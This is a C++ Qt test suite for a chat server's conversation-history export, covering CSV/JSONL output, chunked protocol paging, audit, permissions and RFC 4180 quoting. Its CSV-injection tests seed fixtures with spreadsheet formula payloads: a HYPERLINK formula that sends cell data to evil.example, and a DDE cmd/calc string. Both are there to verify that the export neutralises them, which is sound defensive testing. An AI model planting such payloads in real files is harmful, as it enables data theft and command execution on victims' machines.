// Exports of conversation history (docs/history.md, "Export"): CSV and JSONL from the real
// `switchboard-server export` binary and from the protocol's `export` request against a real
// server, parsed back and compared with what the store holds.
#include "historyseed.h"
#include "testclient.h"
#include "testserver.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QTest>
#include <config/commandline.h>
#include <history/exportwriter.h>
#include <history/historydatabase.h>
#include <switchboard/timeformat.h>

using namespace Qt::StringLiterals;
using namespace switchboard;
using namespace switchboard::server;
using namespace historyseed;

namespace {

const QString password = u"correct horse battery"_s;
const qint64 hour = 3600 * 1000;
// 2026-11-10T00:00:00Z, the range's start; the range is [Nov 10, Nov 12).
const qint64 rangeStart = 1794268800000;
const qint64 rangeEnd = rangeStart + 48 * hour;
const QString tricky = u"Zoë, \"the\" tester\r\nsecond line, ünïcødé 你好 🎉"_s;

// RFC 4180 read back: records of fields; quoted fields may hold commas, quotes and CR LF.
QList<QStringList> readCsv(const QString &text)
{
    QList<QStringList> records;
    QStringList record;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text.at(i + 1) == u'"') {
                field += u'"';
                ++i;
            } else if (c == u'"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',') {
            record.append(field);
            field.clear();
        } else if (c == u'\r' && i + 1 < text.size() && text.at(i + 1) == u'\n') {
            record.append(field);
            records.append(record);
            record.clear();
            field.clear();
            ++i;
        } else {
            field += c; // a bare LF outside quotes would be a writer's mistake: kept visible
        }
    }
    if (!field.isEmpty() || !record.isEmpty())
        records.append(record << field);
    return records;
}

} // namespace

class tst_Export final : public QObject {
    Q_OBJECT

private:
    std::unique_ptr<TestServer> m_server;
    QString m_atStart; // created exactly at the range start
    QString m_tricky; // quotes, commas, line breaks and unicode in names and text
    QString m_long; // enough text for several protocol chunks
    QString m_open; // assigned, never closed
    qint64 m_alice = 0;
    qint64 m_bob = 0;

    QString exportFile(const QString &format)
    {
        const QString path = m_server->dataDir() + u"/export."_s + format;
        const Exit exit = runServerBinary(
            { u"export"_s, u"--from"_s, u"2026-11-10"_s, u"--to"_s, u"2026-11-12T00:00:00Z"_s,
                u"--format"_s, format, u"--data"_s, m_server->dataDir(), u"--output"_s, path });
        if (exit.code != 0)
            qWarning().noquote() << "export failed:" << exit.code << exit.err;
        QFile file(path);
        if (!file.open(QIODevice::ReadOnly))
            return {};
        return QString::fromUtf8(file.readAll());
    }

    // Every chunk of one export through the protocol, checked as it arrives.
    QByteArray exportOverProtocol(TestClient &client, const QString &format, int *chunks)
    {
        QByteArray data;
        QJsonValue cursor(QJsonValue::Null);
        qint64 rows = 0;
        qint64 total = -1;
        *chunks = 0;
        for (int guard = 0; guard < 1000; ++guard) {
            QJsonObject request { { u"type"_s, u"export"_s }, { u"request"_s, u"e1"_s },
                { u"format"_s, format }, { u"from"_s, formatTimestamp(rangeStart) },
                { u"to"_s, formatTimestamp(rangeEnd) }, { u"cursor"_s, cursor } };
            client.send(request);
            const QJsonObject chunk = client.take(u"export_chunk"_s, 10000);
            if (chunk.isEmpty())
                return "<no chunk>";
            ++*chunks;
            const QByteArray bytes = chunk.value(u"data"_s).toString().toUtf8();
            if (bytes.size() >= 48 * 1024 || chunk.value(u"request"_s).toString() != u"e1"_s
                || chunk.value(u"format"_s).toString() != format)
                return "<bad chunk>";
            if (total >= 0 && chunk.value(u"total"_s).toInteger() != total)
                return "<total changed>";
            total = chunk.value(u"total"_s).toInteger();
            rows += chunk.value(u"rows"_s).toInteger();
            data += bytes;
            if (chunk.value(u"done"_s).toBool()) {
                if (!chunk.value(u"cursor"_s).isNull() || rows != total)
                    return "<bad last chunk>";
                return data;
            }
            cursor = chunk.value(u"cursor"_s);
            if (!cursor.isString())
                return "<no cursor>";
        }
        return "<endless>";
    }

private Q_SLOTS:
    void initTestCase()
    {
        // The open conversation must keep its agent while the test runs.
        m_server = std::make_unique<TestServer>(
            [](ServerConfig &config) { config.graceSeconds = 3600; });
        QVERIFY(m_server->addUser(u"sup"_s, u"supervisor"_s, {}, password, u"Sue Pervisor"_s));
        QVERIFY(m_server->addUser(u"alice"_s, u"agent"_s, { u"sales"_s }, password, u"Alice"_s));
        QVERIFY(m_server->addUser(u"bob"_s, u"agent"_s, { u"billing"_s }, password, u"Bob"_s));
        SqliteStore store(m_server->databasePath(), u"seed"_s);
        QVERIFY(store.open());
        m_alice = (*store.findUserByLogin(u"alice"_s))->id;
        m_bob = (*store.findUserByLogin(u"bob"_s))->id;
        const qint64 ann = addCustomer(store, u"Ann"_s, u"ann@example.com"_s, rangeStart - hour);
        const qint64 zoe = addCustomer(store, tricky, u"zoe+\"x\"@example.com"_s, rangeStart);

        // Just before the range: never exported.
        QVERIFY(!seed(store,
            { ann, u"sales"_s, rangeStart - 1, m_alice, rangeStart + 1000, rangeStart + 5000,
                { customerSays(ann, u"Ann"_s, u"before"_s, rangeStart + 100) } })
                     .isEmpty());
        // Exactly at the start: exported; assigned after 30 s, first answer after 45 s by
        // alice and one by bob, a note, closed after 10 minutes.
        m_atStart = seed(store,
            { ann, u"sales"_s, rangeStart, m_alice, rangeStart + 30000, rangeStart + 600000,
                { customerSays(ann, u"Ann"_s, u"hello, I need help"_s, rangeStart + 1000),
                    staffSays(m_alice, u"Alice"_s, u"hi Ann"_s, rangeStart + 45000),
                    staffSays(m_alice, u"Alice"_s, u"private note"_s, rangeStart + 46000,
                        MessageKind::Note),
                    staffSays(m_bob, u"Bob"_s, u"billing here"_s, rangeStart + 50000),
                    customerSays(ann, u"Ann"_s, u"thanks"_s, rangeStart + 60000) } });
        QVERIFY(!m_atStart.isEmpty());
        // Ann rated it (CSAT): the CSV carries the rating and the comment.
        const auto rated = store.rateConversation({ m_atStart, ann, 4, u"quick, \"kind\""_s,
            rangeStart + 700000, protocol::ratingChangeWindowMs });
        QVERIFY(rated && rated->result == RatingOutcome::Result::Stored);
        m_tricky = seed(store,
            { zoe, QString(), rangeStart + hour, m_bob, rangeStart + hour + 2000,
                rangeStart + 2 * hour,
                { customerSays(zoe, tricky, tricky, rangeStart + hour + 1000),
                    staffSays(m_bob, u"Bob"_s, u"a \"quoted\", reply\nover two lines"_s,
                        rangeStart + hour + 9000),
                    staffSays(m_bob, u"Bob"_s,
                        u"tab\there, bell \x07, NUL-free \x1f, back\\slash, \u2028 separator"_s,
                        rangeStart + hour + 9500, MessageKind::Note) } });
        QVERIFY(!m_tricky.isEmpty());
        Conversation longOne { ann, u"sales"_s, rangeStart + 3 * hour, m_alice,
            rangeStart + 3 * hour + 500, rangeStart + 4 * hour, {} };
        for (int i = 0; i < 80; ++i) {
            longOne.messages.append(customerSays(ann, u"Ann"_s,
                u"line %1 "_s.arg(i) + QString(1500, u'x'), rangeStart + 3 * hour + 1000 + i));
        }
        m_long = seed(store, longOne);
        QVERIFY(!m_long.isEmpty());
        m_open = seed(store,
            { ann, u"sales"_s, rangeEnd - 1, m_alice, rangeEnd - 1, 0,
                { customerSays(ann, u"Ann"_s, u"still open"_s, rangeEnd - 1) } });
        QVERIFY(!m_open.isEmpty());
        // Exactly at the end (exclusive): never exported.
        QVERIFY(!seed(store,
            { ann, u"sales"_s, rangeEnd, 0, 0, rangeEnd + 1000,
                { customerSays(ann, u"Ann"_s, u"after"_s, rangeEnd + 10) } })
                     .isEmpty());
        store.close();
        QVERIFY(m_server->start());
    }

    void cleanupTestCase() { m_server.reset(); }

    void csvFromTheCommandLineParsesBack()
    {
        const QString text = exportFile(u"csv"_s);
        QVERIFY(text.endsWith(u"\r\n"_s));
        const QList<QStringList> records = readCsv(text);
        QCOMPARE(records.size(), 5); // header + 4 conversations in range
        // Conversation ids are random and may start with '-', which the CSV writes behind a '
        // like any cell a spreadsheet would run as a formula (docs/history.md).
        const auto asCsvCell = [](const QString &id) {
            return id.startsWith(u'-') ? u"'"_s + id : id;
        };
        QCOMPARE(records.at(0),
            QStringList({ u"id"_s, u"customer"_s, u"customer_email"_s, u"agents"_s, u"team"_s,
                u"created"_s, u"first_response"_s, u"closed"_s, u"wait_s"_s, u"first_response_s"_s,
                u"handle_s"_s, u"customer_messages"_s, u"staff_messages"_s, u"notes"_s,
                u"csat_rating"_s, u"csat_comment"_s }));
        QCOMPARE(records.at(1),
            QStringList({ asCsvCell(m_atStart), u"Ann"_s, u"ann@example.com"_s, u"alice;bob"_s,
                u"sales"_s, formatTimestamp(rangeStart), formatTimestamp(rangeStart + 45000),
                formatTimestamp(rangeStart + 600000), u"30.000"_s, u"45.000"_s, u"570.000"_s,
                u"2"_s, u"2"_s, u"1"_s, u"4"_s, u"quick, \"kind\""_s }));
        QCOMPARE(records.at(2),
            QStringList(
                { asCsvCell(m_tricky), tricky, u"zoe+\"x\"@example.com"_s, u"bob"_s, QString(),
                    formatTimestamp(rangeStart + hour), formatTimestamp(rangeStart + hour + 9000),
                    formatTimestamp(rangeStart + 2 * hour), u"2.000"_s, u"9.000"_s, u"3598.000"_s,
                    u"1"_s, u"1"_s, u"1"_s, QString(), QString() }));
        QCOMPARE(records.at(3).at(0), asCsvCell(m_long));
        QCOMPARE(records.at(3).at(11), u"80"_s);
        QCOMPARE(records.at(3).at(6), QString()); // nobody from the staff answered
        QCOMPARE(records.at(3).at(9), QString());
        QCOMPARE(records.at(4),
            QStringList({ asCsvCell(m_open), u"Ann"_s, u"ann@example.com"_s, u"alice"_s, u"sales"_s,
                formatTimestamp(rangeEnd - 1), QString(), QString(), u"0.000"_s, QString(),
                QString(), u"1"_s, u"0"_s, u"0"_s, QString(), QString() }));
    }

    void jsonlFromTheCommandLineParsesBack()
    {
        const QString text = exportFile(u"jsonl"_s);
        QVERIFY(text.endsWith(u"\n"_s));
        QStringList lines = text.split(u'\n');
        lines.removeLast();
        SqliteStore store(m_server->databasePath(), u"check"_s);
        QVERIFY(store.open());
        qsizetype line = 0;
        for (const QString &id : { m_atStart, m_tricky, m_long, m_open }) {
            auto conversation = store.findConversation(id);
            QVERIFY(conversation && *conversation);
            auto page = store.messagesAfter(id, 0, 1000, true);
            QVERIFY(page);
            QVERIFY(!page->messages.isEmpty());
            for (const StoredMessage &message : page->messages) {
                QVERIFY2(line < lines.size(), "fewer lines than stored messages");
                QJsonParseError error;
                const QJsonObject object
                    = QJsonDocument::fromJson(lines.at(line++).toUtf8(), &error).object();
                QCOMPARE(error.error, QJsonParseError::NoError);
                QCOMPARE(object.value(u"conversation"_s).toString(), id);
                QCOMPARE(object.value(u"seq"_s).toInteger(), message.seq);
                QCOMPARE(object.value(u"ts"_s).toString(), formatTimestamp(message.timestampMs));
                QCOMPARE(object.value(u"kind"_s).toString(), protocol::kindName(message.kind));
                QCOMPARE(object.value(u"from"_s).toObject().value(u"role"_s).toString(),
                    protocol::roleName(message.senderRole));
                QCOMPARE(object.value(u"from"_s).toObject().value(u"name"_s).toString(),
                    message.senderName);
                QCOMPARE(object.value(u"text"_s).toString(), message.text);
                if (message.clientId.isEmpty())
                    QVERIFY(object.value(u"client_id"_s).isNull());
                else
                    QCOMPARE(object.value(u"client_id"_s).toString(), message.clientId);
                QCOMPARE(object.value(u"trace_id"_s).toString(), message.traceId);
                QCOMPARE(object.value(u"team"_s).toString(), (*conversation)->team);
                QCOMPARE(object.value(u"customer"_s).toObject().value(u"name"_s).toString(),
                    (*conversation)->customer.name);
                QCOMPARE(object.value(u"customer"_s).toObject().value(u"email"_s).toString(),
                    (*conversation)->customer.email);
            }
        }
        QCOMPARE(line, lines.size()); // nothing from outside the range
        QVERIFY(text.contains(u"你好 🎉"_s)); // UTF-8 as it is, not escaped
    }

    void protocolChunksCarryTheSameBytes_data()
    {
        QTest::addColumn<QString>("format");
        QTest::addRow("csv") << u"csv"_s;
        QTest::addRow("jsonl") << u"jsonl"_s;
    }

    void protocolChunksCarryTheSameBytes()
    {
        QFETCH(QString, format);
        const QByteArray file = exportFile(format).toUtf8();
        TestClient client;
        QVERIFY(client.open(m_server->url()));
        QVERIFY(!client.helloStaff(u"sup"_s, password, u"supervisor"_s).isEmpty());
        int chunks = 0;
        const QByteArray streamed = exportOverProtocol(client, format, &chunks);
        QCOMPARE(streamed.size(), file.size());
        QCOMPARE(streamed, file);
        // 80 messages of 1.5 KB: JSONL needs several chunks; the four CSV rows fit in one.
        QVERIFY(format == u"csv"_s ? chunks == 1 : chunks >= 3);
    }

    void keysetPagesCoverEveryRowOnce_data()
    {
        QTest::addColumn<QString>("format");
        QTest::addRow("csv") << u"csv"_s;
        QTest::addRow("jsonl") << u"jsonl"_s;
    }

    // One row per chunk (the smallest page there is): every row once, in order, the same bytes.
    void keysetPagesCoverEveryRowOnce()
    {
        QFETCH(QString, format);
        const QByteArray file = exportFile(format).toUtf8();
        HistoryDatabase database(m_server->databasePath(), u"pages"_s);
        QVERIFY(database.open());
        ExportWriter writer(
            database, *exportFormatFromName(format), ExportRange { rangeStart, rangeEnd });
        const auto total = writer.countRows();
        QVERIFY(total);
        QCOMPARE(*total, format == u"csv"_s ? 4 : 5 + 3 + 80 + 1);
        QByteArray joined;
        ExportPosition position;
        qint64 rows = 0;
        int chunks = 0;
        for (;;) {
            const auto chunk = writer.nextChunk(position, 1);
            QVERIFY(chunk);
            QVERIFY(chunk->rows <= 1);
            QVERIFY(chunk->done || !(chunk->next == position));
            joined += chunk->data;
            rows += chunk->rows;
            position = chunk->next;
            ++chunks;
            if (chunk->done)
                break;
            QVERIFY(chunks <= *total + 1);
        }
        QCOMPARE(rows, *total);
        QCOMPARE(joined, file);
    }

    void startingAnExportIsAudited()
    {
        SqliteStore store(m_server->databasePath(), u"audit"_s);
        QVERIFY(store.open());
        AuditFilter filter;
        filter.action = u"export"_s;
        filter.limit = 100;
        const auto page = store.listAudit(filter);
        QVERIFY(page);
        bool cli = false;
        bool protocol = false;
        for (const AuditEntry &entry : page->entries) {
            cli = cli || entry.actor == u"cli"_s;
            protocol = protocol || (entry.actor == u"sup"_s && entry.address == u"127.0.0.1"_s);
            QCOMPARE(entry.detail.value(u"from"_s).toString(), formatTimestamp(rangeStart));
        }
        QVERIFY(cli);
        QVERIFY(protocol);
    }

    void tamperedOrForeignCursorsAreRefused()
    {
        TestClient client;
        QVERIFY(client.open(m_server->url()));
        QVERIFY(!client.helloStaff(u"sup"_s, password, u"supervisor"_s).isEmpty());
        const QJsonObject start { { u"type"_s, u"export"_s }, { u"request"_s, u"t1"_s },
            { u"format"_s, u"jsonl"_s }, { u"from"_s, formatTimestamp(rangeStart) },
            { u"to"_s, formatTimestamp(rangeEnd) } };
        client.send(start);
        const QJsonObject first = client.take(u"export_chunk"_s, 10000);
        const QString cursor = first.value(u"cursor"_s).toString();
        QVERIFY(!cursor.isEmpty());

        QString flipped = cursor;
        flipped[3] = flipped.at(3) == u'A' ? u'B' : u'A';
        QJsonObject tampered = start;
        tampered.insert(u"cursor"_s, flipped);
        client.send(tampered);
        QJsonObject error = client.take(u"error"_s);
        QCOMPARE(error.value(u"code"_s).toString(), u"bad_request"_s);
        QCOMPARE(error.value(u"ref"_s).toString(), u"t1"_s);

        QJsonObject otherRange = start;
        otherRange.insert(u"from"_s, formatTimestamp(rangeStart + 1));
        otherRange.insert(u"cursor"_s, cursor);
        client.send(otherRange);
        QCOMPARE(client.take(u"error"_s).value(u"code"_s).toString(), u"bad_request"_s);

        QJsonObject otherFormat = start;
        otherFormat.insert(u"format"_s, u"csv"_s);
        otherFormat.insert(u"cursor"_s, cursor);
        client.send(otherFormat);
        QCOMPARE(client.take(u"error"_s).value(u"code"_s).toString(), u"bad_request"_s);

        // The genuine cursor still works after all that.
        QJsonObject next = start;
        next.insert(u"cursor"_s, cursor);
        client.send(next);
        QVERIFY(!client.take(u"export_chunk"_s, 10000).isEmpty());
    }

    void agentsMayNotExport()
    {
        TestClient client;
        QVERIFY(client.open(m_server->url()));
        QVERIFY(!client.helloStaff(u"alice"_s, password).isEmpty());
        client.send(
            { { u"type"_s, u"export"_s }, { u"request"_s, u"x"_s }, { u"format"_s, u"csv"_s } });
        const QJsonObject error = client.take(u"error"_s);
        QCOMPARE(error.value(u"code"_s).toString(), u"forbidden"_s);
        QCOMPARE(error.value(u"ref"_s).toString(), u"x"_s);
        QVERIFY(!client.receives(u"export_chunk"_s, 300));

        TestClient customer;
        QVERIFY(customer.open(m_server->url()));
        QVERIFY(!customer.helloCustomer().isEmpty());
        customer.send({ { u"type"_s, u"export"_s }, { u"format"_s, u"jsonl"_s } });
        QCOMPARE(customer.take(u"error"_s).value(u"code"_s).toString(), u"forbidden"_s);
    }

    void emptyRangeIsTheHeaderAlone()
    {
        TestClient client;
        QVERIFY(client.open(m_server->url()));
        QVERIFY(!client.helloStaff(u"sup"_s, password, u"supervisor"_s).isEmpty());
        client.send({ { u"type"_s, u"export"_s }, { u"format"_s, u"csv"_s },
            { u"from"_s, u"2020-01-01T00:00:00Z"_s }, { u"to"_s, u"2020-01-02T00:00:00Z"_s } });
        const QJsonObject chunk = client.take(u"export_chunk"_s, 10000);
        QCOMPARE(chunk.value(u"data"_s).toString().toUtf8(), ExportWriter::csvHeader());
        QCOMPARE(chunk.value(u"rows"_s).toInt(), 0);
        QCOMPARE(chunk.value(u"total"_s).toInt(), 0);
        QVERIFY(chunk.value(u"done"_s).toBool());
        QVERIFY(chunk.value(u"cursor"_s).isNull());
    }

    void badCommandLinesGetOneLine_data()
    {
        QTest::addColumn<QStringList>("arguments");
        QTest::addColumn<int>("exitCode");
        QTest::addColumn<QString>("says");
        const QStringList range { u"--from"_s, u"2026-11-10"_s, u"--to"_s, u"2026-11-12"_s };
        QTest::addRow("not a date") << QStringList { u"--from"_s, u"yesterday"_s, u"--to"_s,
            u"2026-11-12"_s, u"--format"_s, u"csv"_s }
                                    << 2 << u"--from: expected YYYY-MM-DD"_s;
        QTest::addRow("no such day") << QStringList { u"--from"_s, u"2026-02-30"_s, u"--to"_s,
            u"2026-11-12"_s, u"--format"_s, u"csv"_s }
                                     << 2 << u"--from: expected"_s;
        QTest::addRow("time without zone") << QStringList { u"--from"_s, u"2026-11-10T10:00:00"_s,
            u"--to"_s, u"2026-11-12"_s, u"--format"_s, u"csv"_s }
                                           << 2 << u"--from: expected"_s;
        QTest::addRow("to before from") << QStringList { u"--from"_s, u"2026-11-12"_s, u"--to"_s,
            u"2026-11-10"_s, u"--format"_s, u"csv"_s }
                                        << 2 << u"--to must be later than --from"_s;
        QTest::addRow("unknown format") << (range + QStringList { u"--format"_s, u"xml"_s }) << 2
                                        << u"--format: expected csv|jsonl, got \"xml\""_s;
        QTest::addRow("no format") << range << 2 << u"--format csv|jsonl is required"_s;
        QTest::addRow("no from") << QStringList { u"--to"_s, u"2026-11-12"_s, u"--format"_s,
            u"csv"_s } << 2 << u"--from DATE is required"_s;
        QTest::addRow("user option")
            << (range + QStringList { u"--format"_s, u"csv"_s, u"--role"_s, u"agent"_s }) << 2
            << u"--role does not apply to export"_s;
        QTest::addRow("no database")
            << (range + QStringList { u"--format"_s, u"csv"_s, u"--data"_s, u"/nonexistent/x"_s })
            << 2 << u"no database at"_s;
    }

    void badCommandLinesGetOneLine()
    {
        QFETCH(QStringList, arguments);
        QFETCH(int, exitCode);
        QFETCH(QString, says);
        if (!arguments.contains(u"--data"_s))
            arguments << u"--data"_s << m_server->dataDir();
        const Exit exit = runServerBinary(QStringList { u"export"_s } + arguments);
        QCOMPARE(exit.code, exitCode);
        QVERIFY2(exit.err.contains(says), qPrintable(exit.err));
        QCOMPARE(exit.err.count(u'\n'), 1);
        QVERIFY(exit.out.isEmpty());
    }

    // The progress line is for a person watching a terminal; a pipe or a file gets none.
    void progressGoesToATerminalOnly()
    {
        const QString path = m_server->dataDir() + u"/progress.csv"_s;
        const QStringList arguments { u"export"_s, u"--from"_s, u"2026-11-10"_s, u"--to"_s,
            u"2026-11-12"_s, u"--format"_s, u"csv"_s, u"--data"_s, m_server->dataDir(),
            u"--output"_s, path };
        const Exit piped = runServerBinary(arguments);
        QCOMPARE(piped.code, 0);
        QVERIFY(piped.err.isEmpty());
        // script(1) gives the command a pseudo-terminal for its standard error.
        QString command = QString::fromUtf8(SWITCHBOARD_SERVER_BINARY);
        for (const QString &argument : arguments)
            command += u" '"_s + argument + u"'"_s;
        QProcess terminal;
        terminal.start(u"script"_s, { u"-qec"_s, command, u"/dev/null"_s });
        QVERIFY(terminal.waitForFinished(60000));
        QCOMPARE(terminal.exitCode(), 0);
        const QString shown = QString::fromUtf8(terminal.readAllStandardOutput());
        QVERIFY2(shown.contains(u"exporting: 4 of 4 rows (100%)"_s), qPrintable(shown));
    }

    void exportDatesAreParsed()
    {
        QCOMPARE(parseExportDate(u"2026-11-10"_s), std::optional<qint64>(rangeStart));
        QCOMPARE(
            parseExportDate(u"2026-11-10T01:00:00+01:00"_s), std::optional<qint64>(rangeStart));
        QCOMPARE(parseExportDate(u"2026-11-10T00:00:00.250Z"_s),
            std::optional<qint64>(rangeStart + 250));
        QVERIFY(!parseExportDate(u"10.11.2026"_s));
        QVERIFY(!parseExportDate(u""_s));
    }

    void csvFieldsAreQuotedAsRfc4180Asks()
    {
        QCOMPARE(ExportWriter::csvField(u"plain"_s), QByteArray("plain"));
        QCOMPARE(ExportWriter::csvField(u"a,b"_s), QByteArray("\"a,b\""));
        QCOMPARE(ExportWriter::csvField(u"say \"hi\""_s), QByteArray("\"say \"\"hi\"\"\""));
        QCOMPARE(ExportWriter::csvField(u"two\nlines"_s), QByteArray("\"two\nlines\""));
        QCOMPARE(ExportWriter::csvField(u"ü"_s), QByteArray("\xc3\xbc"));
    }

    // OWASP CSV injection: a customer-chosen name or e-mail, or a team, that a spreadsheet
    // would run as a formula gets a leading ' in the CSV; the JSONL keeps the exact text.
    void csvCellsThatLookLikeFormulasAreNeutralised()
    {
        const QString hyperlink = u"=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")"_s;
        const QString email = u"@SUM(1+1)*cmd|' /C calc'!A0"_s;
        const QString team = u"+team"_s;
        TestServer offline; // its data directory only; the CLI reads the file
        {
            SqliteStore store(offline.databasePath(), u"formula-seed"_s);
            QVERIFY(store.open());
            const qint64 customer = addCustomer(store, hyperlink, email, rangeStart);
            QVERIFY(customer != 0);
            QVERIFY(!seed(store,
                { customer, team, rangeStart, 0, 0, rangeStart + 1000,
                    { customerSays(customer, hyperlink, u"-1+2"_s, rangeStart + 10) } })
                         .isEmpty());
            const qint64 other = addCustomer(store, u"\tTabby"_s, u"-5"_s, rangeStart + 1);
            QVERIFY(!seed(store,
                { other, u"\rreturn"_s, rangeStart + 1, 0, 0, rangeStart + 2000,
                    { customerSays(other, u"\tTabby"_s, u"hi"_s, rangeStart + 20) } })
                         .isEmpty());
            store.close();
        }
        const auto exportTo = [&](const QString &format) {
            const QString path = offline.dataDir() + u"/formulas."_s + format;
            const Exit exit = runServerBinary(
                { u"export"_s, u"--from"_s, u"2026-11-10"_s, u"--to"_s, u"2026-11-11"_s,
                    u"--format"_s, format, u"--data"_s, offline.dataDir(), u"--output"_s, path });
            QFile file(path);
            return exit.code == 0 && file.open(QIODevice::ReadOnly)
                ? QString::fromUtf8(file.readAll())
                : QString();
        };
        const QList<QStringList> records = readCsv(exportTo(u"csv"_s));
        QCOMPARE(records.size(), 3);
        QCOMPARE(records.at(1).at(1), u"'"_s + hyperlink);
        QCOMPARE(records.at(1).at(2), u"'"_s + email);
        QCOMPARE(records.at(1).at(4), u"'"_s + team);
        QCOMPARE(records.at(2).at(1), u"'\tTabby"_s);
        QCOMPARE(records.at(2).at(2), u"-5"_s); // a plain number is no formula
        QCOMPARE(records.at(2).at(4), u"'\rreturn"_s);
        QCOMPARE(records.at(2).at(11), u"1"_s);

        QStringList lines = exportTo(u"jsonl"_s).split(u'\n', Qt::SkipEmptyParts);
        QCOMPARE(lines.size(), 2);
        const QJsonObject first = QJsonDocument::fromJson(lines.at(0).toUtf8()).object();
        QCOMPARE(first.value(u"customer"_s).toObject().value(u"name"_s).toString(), hyperlink);
        QCOMPARE(first.value(u"customer"_s).toObject().value(u"email"_s).toString(), email);
        QCOMPARE(first.value(u"team"_s).toString(), team);
        QCOMPARE(first.value(u"text"_s).toString(), u"-1+2"_s);
        const QJsonObject second = QJsonDocument::fromJson(lines.at(1).toUtf8()).object();
        QCOMPARE(second.value(u"customer"_s).toObject().value(u"name"_s).toString(), u"\tTabby"_s);
    }

    void csvFormulaCellsGetALeadingQuote_data()
    {
        QTest::addColumn<QString>("cell");
        QTest::addColumn<QByteArray>("field");
        QTest::addRow("equals") << u"=1+1"_s << QByteArray("'=1+1");
        QTest::addRow("plus") << u"+1-1"_s << QByteArray("'+1-1");
        QTest::addRow("minus") << u"-A1"_s << QByteArray("'-A1");
        QTest::addRow("at") << u"@SUM(A1)"_s << QByteArray("'@SUM(A1)");
        QTest::addRow("tab") << u"\t=1"_s << QByteArray("'\t=1");
        QTest::addRow("carriage return") << u"\r=1"_s << QByteArray("\"'\r=1\"");
        QTest::addRow("with a comma") << u"=A1,B1"_s << QByteArray("\"'=A1,B1\"");
        QTest::addRow("a lone minus") << u"-"_s << QByteArray("'-");
        QTest::addRow("negative number") << u"-12"_s << QByteArray("-12");
        QTest::addRow("signed decimal") << u"+3.5"_s << QByteArray("+3.5");
        QTest::addRow("number then formula") << u"-1+cmd"_s << QByteArray("'-1+cmd");
        QTest::addRow("equals inside") << u"a=b"_s << QByteArray("a=b");
        QTest::addRow("space first") << u" =1"_s << QByteArray(" =1");
        QTest::addRow("empty") << QString() << QByteArray();
    }

    void csvFormulaCellsGetALeadingQuote()
    {
        QFETCH(QString, cell);
        QFETCH(QByteArray, field);
        QCOMPARE(ExportWriter::csvField(cell), field);
    }
};

QTEST_GUILESS_MAIN(tst_Export)
#include "tst_export.moc"
